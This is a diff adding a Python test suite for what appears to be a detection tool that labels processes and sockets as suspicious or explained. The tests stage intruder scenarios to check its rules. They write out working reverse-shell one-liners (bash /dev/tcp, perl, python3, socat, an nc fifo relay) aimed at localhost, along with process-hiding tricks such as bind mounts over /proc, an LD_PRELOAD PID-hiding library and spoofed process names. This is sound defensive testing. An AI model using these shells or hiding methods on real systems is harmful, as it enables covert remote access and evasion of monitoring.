@@ -1,0 +1,432 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: MIT
+"""Verdicts: each suspicious rule finds the thing made for real, and names the right process."""
+import json
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import time
+
+import live
+import scene
+from scene import Scene, audit, expect
+
+GIT_DAEMON = "/usr/lib/git-core/git-daemon"
+
+
+def test_deleted_and_replaced():
+    with Scene() as s:
+        gone = s.intruder(s.copy("/srv/gone"), "listen", "127.0.0.1", 0)
+        os.unlink("/srv/gone")
+        other = s.intruder(s.copy("/srv/other"), "listen", "127.0.0.1", 0)
+        s.copy("/srv/new")
+        os.rename("/srv/new", "/srv/other")
+        named = s.intruder(s.copy("/srv/odd (deleted)"), "listen", "127.0.0.1", 0)
+        doc = audit()
+        expect(doc, gone["pid"], "suspicious", "exe-deleted")
+        expect(doc, other["pid"], "suspicious", "exe-replaced")
+        # a name is no evidence: the file is there
+        expect(doc, named["pid"], "unexplained", "exe-unpackaged")
+        live.equal(doc["exit"], 5, "exit status")
+
+
+def test_memory_only():
+    with Scene() as s:
+        fd = os.memfd_create("cron", 0)
+        with open(scene.INTRUDER, "rb") as f:
+            os.write(fd, f.read())
+        p = s.intruder("/proc/self/fd/%d" % fd, "listen", "127.0.0.1", 0, pass_fds=[fd])
+        os.close(fd)
+        found = expect(audit(), p["pid"], "suspicious", "exe-memory")
+        live.holds("/memfd:cron" in found[0]["evidence"][0], found[0]["evidence"])
+
+
+def test_world_writable():
+    with Scene() as s:
+        os.makedirs("/srv/open/deep", mode=0o700)
+        os.chmod("/srv/open", 0o1777)
+        p = s.intruder(s.copy("/srv/open/deep/program"), "listen", "127.0.0.1", 0)
+        shm = s.intruder(s.copy("/dev/shm/portavoz-test-program"), "listen", "127.0.0.1", 0)
+        try:
+            doc = audit()
+        finally:
+            os.unlink("/dev/shm/portavoz-test-program")
+        found = expect(doc, p["pid"], "suspicious", "exe-world-writable")
+        live.holds("/srv/open" in found[0]["evidence"][0], found[0]["evidence"])
+        expect(doc, shm["pid"], "suspicious", "exe-world-writable")
+
+
+def test_reverse_shells():
+    shells = {
+        "bash": "exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1",
+        "perl": "exec /usr/bin/perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,6);"
+                "connect(S,sockaddr_in(%d,inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");"
+                "open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'",
+        "python3": "exec /usr/bin/python3 -c 'import socket,os;s=socket.create_connection((\"127.0.0.1\",%d));"
+                   "[os.dup2(s.fileno(),i) for i in (0,1,2)];import pty;pty.spawn(\"/bin/sh\")'",
+    }
+    for name, command in shells.items():
+        with Scene() as s:
+            sock, port = s.attacker()
+            p = s.start("bash", "-c", command % port)
+            s.accept(sock)
+            time.sleep(0.2)
+            found = expect(audit("dport = %d" % port), p.pid, "suspicious", "shell-on-socket")
+            live.holds(found[0]["evidence"], name)
+
+
+def test_shells_behind_relays():
+    relays = {
+        "socat": "exec socat TCP:127.0.0.1:%d EXEC:/bin/bash,pty,stderr,setsid",
+        "nc": "rm -f /srv/f; mkfifo /srv/f; cat /srv/f | /bin/sh -i 2>&1 | nc.openbsd 127.0.0.1 %d > /srv/f",
+    }
+    for name, command in relays.items():
+        with Scene() as s:
+            sock, port = s.attacker()
+            s.start("bash", "-c", command % port)
+            s.accept(sock)
+            time.sleep(0.3)
+            found = [f for f in audit("dport = %d" % port)["findings"]]
+            live.equal([f["verdict"] for f in found], ["suspicious"], name)
+            live.holds("shell-behind-relay" in found[0]["rules"], "%s: %r" % (name, found[0]["rules"]))
+    # a relay without a shell is unexplained, no more
+    with Scene() as s:
+        sock, port = s.attacker()
+        p = s.start("socat", "TCP:127.0.0.1:%d" % port, "-")
+        s.accept(sock)
+        expect(audit("dport = %d" % port), p.pid, "unexplained", "generic-tool")
+
+
+def test_names():
+    with Scene() as s:
+        made = [
+            ("fake-kernel-thread", s.intruder(s.copy("/srv/a"), "comm=kworker/0:1", "listen", "127.0.0.1", 0)),
+            ("fake-kernel-thread", s.intruder(s.copy("/srv/b"), "argv=[kworker/0:1]", "listen", "127.0.0.1", 0)),
+            ("fake-kernel-thread", s.intruder(s.copy("/srv/c"), "erase", "listen", "127.0.0.1", 0)),
+            ("imitates-program", s.intruder(s.copy("/srv/d"), "comm=agetty", "listen", "127.0.0.1", 0)),
+            ("imitates-program", s.intruder(s.copy("/srv/e"), "argv=/usr/sbin/agetty: idle", "listen", "127.0.0.1", 0)),
+        ]
+        os.makedirs("/srv/home", exist_ok=True)
+        shutil.copy(scene.INTRUDER, "/srv/home/agetty")
+        os.chown("/srv/home/agetty", 65534, 65534)
+        made.append(("imitates-program", s.intruder("/srv/home/agetty", "listen", "127.0.0.1", 0)))
+        doc = audit()
+        for rule, p in made:
+            expect(doc, p["pid"], "suspicious", rule)
+
+
+def test_an_interpreter_that_renames_itself():
+    with Scene() as s:
+        sock, port = s.attacker()
+        p = s.start("/usr/bin/perl", "-MSocket", "-e",
+                    "socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(%d,inet_aton('127.0.0.1')));"
+                    "$0='agetty';sleep 60" % port)
+        s.accept(sock)
+        scene.wait_until("renamed", lambda: open("/proc/%d/comm" % p.pid).read() == "agetty\n")
+        expect(audit(), p.pid, "suspicious", "imitates-program")
+
+
+def test_hidden_by_a_mount():
+    with Scene() as s:
+        p = s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 0)
+        os.makedirs("/srv/empty")
+        s.mount("--bind", "/srv/empty", "/proc/%d" % p["pid"])
+        for way in ("sport = %d" % p["port"],):
+            doc = audit(way)
+            live.equal([f["verdict"] for f in doc["findings"]], ["suspicious"], "hidden")
+            finding = doc["findings"][0]
+            live.holds("owner-hidden" in finding["rules"], finding["rules"])
+            text = finding["evidence"][finding["rules"].index("owner-hidden")]
+            live.holds(str(p["pid"]) in text and "mounted" in text, text)
+
+
+def test_hidden_by_another_entry():
+    with Scene() as s:
+        p = s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 0)
+        s.mount("--bind", "/proc/%d" % os.getpid(), "/proc/%d" % p["pid"])
+        finding = audit("sport = %d" % p["port"])["findings"][0]
+        live.equal(finding["verdict"], "suspicious", "hidden")
+        live.holds("owner-hidden" in finding["rules"], finding["rules"])
+
+
+def test_hidden_from_listings():
+    if live.SANITIZED:
+        return  # nothing can be loaded before the sanitizer's own library
+    with Scene() as s:
+        p = s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 0)
+        env = {"LD_PRELOAD": os.path.join(live.HELPERS, "hidepid.so"), "HIDEPID": str(p["pid"])}
+        shown = subprocess.run(["ls", "/proc"], env={**os.environ, **env}, stdout=subprocess.PIPE, text=True, check=True)
+        live.holds(str(p["pid"]) not in shown.stdout.split(), "ls shows it")
+        doc = audit("sport = %d" % p["port"], env=env)
+        found = expect(doc, p["pid"], "suspicious", "owner-hidden")
+        live.holds("listings" in " ".join(found[0]["evidence"]), found[0]["evidence"])
+
+
+def doctored(command, change):
+    """Runs portavoz with a /proc/net in which the lines of tcp are what change(lines) gives."""
+    os.makedirs("/srv/net", exist_ok=True)
+    for table in ("tcp", "tcp6", "udp", "udp6", "raw", "raw6", "icmp", "icmp6", "sockstat", "sockstat6", "protocols"):
+        with open("/proc/net/" + table) as source, open("/srv/net/" + table, "w") as f:
+            lines = source.readlines()
+            f.writelines(change(lines) if table == "tcp" else lines)
+    done = live.run(*command, expect=None, prefix=(
+        "unshare", "-m", "sh", "-c", "mount --bind /srv/net /proc/$$/net && exec \"$@\"", "sh"))
+    return json.loads(done.stdout)
+
+
+def test_lists_that_disagree():
+    with Scene() as s:
+        sock, port = s.attacker()
+        client = s.intruder(s.copy("/srv/client"), "connect", "127.0.0.1", port)
+        s.accept(sock)
+        end = "0100007F:%04X 0100007F:%04X 01" % (client["port"], port)
+        command = ("audit", "--no-policy", "--json", "--all")
+        only = "sport = %d" % client["port"]
+        doc = doctored((*command, only, "--record=/srv/recording"), lambda lines: [x for x in lines if end not in x])
+        found = expect(doc, client["pid"], "suspicious", "views-disagree")
+        live.holds("not by /proc/net" in " ".join(found[0]["evidence"]), found[0]["evidence"])
+        live.equal(simple(audit("--replay=/srv/recording", only)), simple(doc), "what the recording says")
+
+        def forge(lines):
+            words = [x for x in lines if end in x][0].split()
+            words[1], words[9] = "0100007F:FFFD", "424242"
+            return lines + [" " + " ".join(words).ljust(148) + "\n"]
+        findings = doctored((*command, "sport = 65533"), forge)["findings"]
+        live.equal([(f["verdict"], "views-disagree" in f["rules"]) for f in findings], [("suspicious", True)],
+                   "a row that /proc/net alone has")
+        live.holds(not any("views-disagree" in f["rules"] for f in audit()["findings"]), "a false alarm")
+
+
+def test_preloaded_library():
+    with Scene() as s:
+        shutil.copy(os.path.join(live.HELPERS, "hidepid.so"), "/srv/lib.so")
+        program = "/usr/bin/socat"  # packaged, and not sanitized
+        p = s.start(program, "TCP-LISTEN:7001,bind=127.0.0.1", "STDOUT", env={"LD_PRELOAD": "/srv/lib.so"})
+        scene.wait_until("socat listens", lambda: scene.listens(7001))
+        found = expect(audit(), p.pid, "suspicious", "preloaded-library")
+        live.holds("/srv/lib.so" in " ".join(found[0]["evidence"]), found[0]["evidence"])
+
+
+def test_sniffers():
+    with Scene() as s:
+        packet = s.intruder(s.copy("/srv/sniff"), "packet")
+        raw = s.intruder("/srv/sniff", "raw")
+        script = s.start("/usr/bin/python3", "-c", "import socket,time\n"
+                         "s=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3))\ntime.sleep(60)")
+        doc = None
+        def ready():
+            nonlocal doc
+            doc = audit()
+            return scene.of_pid(doc, script.pid)
+        scene.wait_until("the script sniffs", ready)
+        for pid in (packet["pid"], raw["pid"], script.pid):
+            expect(doc, pid, "suspicious", "sniffer")
+
+
+def test_open_dynamic_listener():
+    with Scene() as s:
+        everywhere = s.intruder(s.copy("/srv/door"), "listen", "0.0.0.0", 50505)
+        local = s.intruder("/srv/door", "listen", "127.0.0.1", 50506)
+        registered = s.intruder("/srv/door", "listen", "0.0.0.0", 7002)
+        doc = audit()
+        expect(doc, everywhere["pid"], "suspicious", "open-dynamic-listener")
+        expect(doc, local["pid"], "unexplained", "exe-unpackaged")
+        expect(doc, registered["pid"], "unexplained", "exe-unpackaged")
+
+
+def git_daemon(s, port, path=GIT_DAEMON):
+    p = s.start(path, "--listen=127.0.0.1", "--port=%d" % port, "--base-path=/srv", "--reuseaddr")
+    scene.wait_until("git daemon listens", lambda: scene.listens(port))
+    return p
+
+
+def test_a_packaged_service():
+    with Scene() as s:
+        p = git_daemon(s, 9418)
+        # stopped, it accepts nothing: the connection waits in its queue
+        os.kill(p.pid, signal.SIGSTOP)
+        client = socket.create_connection(("127.0.0.1", 9418))
+        s.sockets.append(client)
+        doc = audit()
+        expect(doc, p.pid, "explained", "package")
+        waits = [f for f in doc["findings"] if f["conversation"]["owner_reason"] == "not_accepted"]
+        live.equal([(f["verdict"], f["rules"]) for f in waits], [("explained", ["in-queue", "owner-unknown"])], "queue")
+        os.kill(p.pid, signal.SIGCONT)
+        expect(audit("--verify"), p.pid, "explained", "package-verified")
+        # closed by the client: its end remains, and the service at the other one is explained
+        subprocess.run(["git", "ls-remote", "git://127.0.0.1/none"], stdout=subprocess.DEVNULL,
+                       stderr=subprocess.DEVNULL, check=False)
+        client.close()
+        remains = [f for f in audit("state time-wait and port = 9418")["findings"]]
+        live.holds(remains, "nothing in TIME_WAIT")
+        live.equal({f["verdict"] for f in remains}, {"explained"}, "remains")
+
+
+def test_service_on_anothers_port():
+    with Scene() as s:
+        p = git_daemon(s, 22)
+        found = expect(audit(), p.pid, "suspicious", "service-contradicted")
+        live.holds("ssh" in " ".join(found[0]["evidence"]), found[0]["evidence"])
+
+
+def test_copied_and_modified_packages():
+    with Scene() as s:
+        os.makedirs("/srv/tmp")
+        os.chmod("/srv/tmp", 0o1777)
+        copy = git_daemon(s, 9419, s.copy("/srv/tmp/git-daemon", GIT_DAEMON))
+        expect(audit(), copy.pid, "suspicious", "exe-world-writable", "exe-unpackaged")
+    with Scene() as s:
+        s.copy("/srv/git-daemon", GIT_DAEMON)
+        with open("/srv/git-daemon", "ab") as f:
+            f.write(b"more")
+        s.mount("--bind", "/srv/git-daemon", GIT_DAEMON)
+        p = git_daemon(s, 9418)
+        expect(audit(), p.pid, "explained", "package")
+        expect(audit("--verify"), p.pid, "suspicious", "exe-modified")
+
+
+def test_another_file_tree():
+    """A mount namespace in which a packaged path is another file explains nothing."""
+    with Scene() as s:
+        p = s.intruder("/usr/bin/unshare", "-m", "sh", "-c",
+                       "mount --bind %s %s && exec %s listen 127.0.0.1 0" % (scene.INTRUDER, GIT_DAEMON, GIT_DAEMON))
+        expect(audit(), p["pid"], "unexplained", "exe-elsewhere")
+
+
+def test_descendant():
+    with Scene() as s:
+        s.copy("/srv/helper-of-it")
+        p = s.intruder(s.copy("/srv/service"), "child=/srv/helper-of-it", "listen", "127.0.0.1", 0)
+        with open("/srv/policy", "w") as f:
+            f.write('expect "the service" exe /srv/service\n')
+        doc = audit(policy="/srv/policy")
+        expect(doc, p["pid"], "explained", "policy-expect")
+        child = [f for f in doc["findings"] if "descendant" in f["rules"]]
+        live.equal([f["verdict"] for f in child], ["explained"], "the child's end")
+        live.holds(str(p["pid"]) in " ".join(child[0]["evidence"]), child[0]["evidence"])
+
+
+def test_policy():
+    with Scene() as s:
+        p = s.intruder(s.copy("/srv/service"), "listen", "127.0.0.1", 7003)
+        gone = s.intruder(s.copy("/srv/gone"), "listen", "127.0.0.1", 7004)
+        client = s.intruder("/srv/service", "connect", "127.0.0.1", 7003)
+        os.unlink("/srv/gone")
+        with open("/srv/list", "w") as f:
+            f.write("# bad\n127.0.0.0/8\n")
+        with open("/srv/policy", "w") as f:
+            f.write('never "no calls" exe /srv/service and direction outgoing\n'
+                    'block file /srv/list\n'
+                    'expect "deleted" exe /srv/gone*\n'
+                    'expect "the service" exe /srv/service always\n'
+                    'expect "ssh" service ssh always\n')
+        doc = audit(policy="/srv/policy")
+        expect(doc, p["pid"], "explained", "policy-expect")
+        expect(doc, client["pid"], "suspicious", "policy-never")
+        # what is expected is still suspicious when it is deleted
+        expect(doc, gone["pid"], "suspicious", "policy-expect", "exe-deleted")
+        live.equal([m["title"] for m in doc["missing"]], ["ssh"], "missing")
+        live.equal([r["matches"] for r in doc["policy"]][:1], [1], "matches")
+        with open("/srv/policy", "w") as f:
+            f.write("block file /srv/list\n")
+        doc = audit(policy="/srv/policy")
+        found = expect(doc, client["pid"], "suspicious", "policy-block")
+        live.holds("line 2" in " ".join(found[0]["evidence"]), found[0]["evidence"])
+
+
+def test_kernel_socket():
+    with Scene():
+        done = subprocess.run(["ip", "link", "add", "vx0", "type", "vxlan", "id", "7", "dstport", "4790",
+                               "local", "127.0.0.1", "dev", "lo"], stderr=subprocess.PIPE, check=False)
+        live.equal(done.returncode, 0, done.stderr.decode())
+        try:
+            live.shell("ip link set vx0 up")
+            found = audit("sport = 4790")["findings"]
+        finally:
+            live.shell("ip link del vx0")
+        live.holds(found, "the kernel's socket is not listed")
+        for finding in found:
+            live.equal(finding["verdict"], "explained", finding["evidence"])
+            live.holds("kernel-socket" in finding["rules"], finding["rules"])
+
+
+def test_notes():
+    with Scene() as s:
+        p = s.intruder(s.copy("/srv/old"), "listen", "0.0.0.0", 23)
+        found = expect(audit(), p["pid"], "unexplained", "cleartext")
+        live.holds("telnet" in " ".join(found[0]["evidence"]), found[0]["evidence"])
+
+
+def test_hostile_names():
+    name = "/srv/a\x1b[31m\n  b\u202e"
+    with Scene() as s:
+        p = s.intruder(s.copy(name), "comm=\x1b]0;x\x07\n", "listen", "127.0.0.1", 0)
+        for args in (["--no-policy"], ["--no-policy", "--json"], ["--no-policy", "--color=never", "--all"]):
+            done = live.run("audit", *args, expect=None)
+            live.no_raw(done.stdout, "audit")
+        doc = audit()
+        found = expect(doc, p["pid"], "unexplained", "exe-unpackaged")
+        live.holds(name in found[0]["evidence"][0], found[0]["evidence"])
+        table = live.run("list", "--columns=evidence", "-H").stdout
+        live.no_raw(table, "the column evidence")
+        live.holds(b"  " not in table, "two spaces in a cell: %r" % table)
+
+
+def simple(doc):
+    return sorted((f["verdict"], tuple(f["rules"]), tuple(f["evidence"])) for f in doc["findings"])
+
+
+def test_recording():
+    with Scene() as s:
+        s.intruder(s.copy("/srv/gone"), "listen", "127.0.0.1", 0)
+        os.unlink("/srv/gone")
+        git_daemon(s, 9418)
+        sock, port = s.attacker()
+        s.start("bash", "-c", "exec socat TCP:127.0.0.1:%d EXEC:/bin/bash,pty,stderr,setsid" % port)
+        s.accept(sock)
+        time.sleep(0.2)
+        doc = audit("--record=/srv/recording", "--verify")
+        again = audit("--replay=/srv/recording", "--verify")
+        live.equal(simple(again), simple(doc), "what a recording says")
+        live.run("list", "--record=/srv/plain")
+        live.equal(simple(audit("--replay=/srv/plain", "--verify")), simple(doc), "what a list's recording says")
+
+
+def test_filter_and_columns():
+    with Scene() as s:
+        p = s.intruder(s.copy("/srv/gone"), "listen", "127.0.0.1", 0)
+        git_daemon(s, 9418)
+        os.unlink("/srv/gone")
+        rows = live.rows("verdict suspicious", columns="pid,verdict,evidence")
+        live.equal([r["pid"] for r in rows], [p["pid"]], "list verdict suspicious")
+        rows = live.rows("evidence exe-deleted", columns="pid,verdict")
+        live.equal([(r["pid"], r["verdict"]) for r in rows], [(p["pid"], "suspicious")], "by rule")
+        rows = live.rows("state listening and verdict explained and not evidence 'exe-*'", columns="comm")
+        live.equal([r["comm"] for r in rows], ["git-daemon"], "explained")
+        coloured = live.run("list", "--columns=verdict", "-H", "--color=always").stdout
+        live.holds(b"\x1b[31msuspicious" in coloured and b"\x1b[32mexplained" in coloured, coloured)
+
+
+def test_exit_status():
+    here = ("audit", "--no-policy", "state listening")  # what other tests left behind apart
+    with Scene() as s:
+        live.run(*here, expect=0)
+        git_daemon(s, 9418)
+        live.run(*here, expect=0)
+        s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 0)
+        live.run(*here, expect=4)
+        live.run(*here, "and exe git-daemon", expect=0)
+        s.intruder(s.copy("/srv/gone"), "listen", "127.0.0.1", 0)
+        os.unlink("/srv/gone")
+        live.run(*here, expect=5)
+        live.run(*here, "--strict", expect=5)
+        live.run("audit", "--no-policy", "--policy=/srv/none", expect=2)
+        live.run("audit", "--policy=/srv/none", expect=1)
+        live.run("audit", "no such filter (", expect=2)
+
+
+if __name__ == "__main__":
+    live.main(globals(), pid=False)
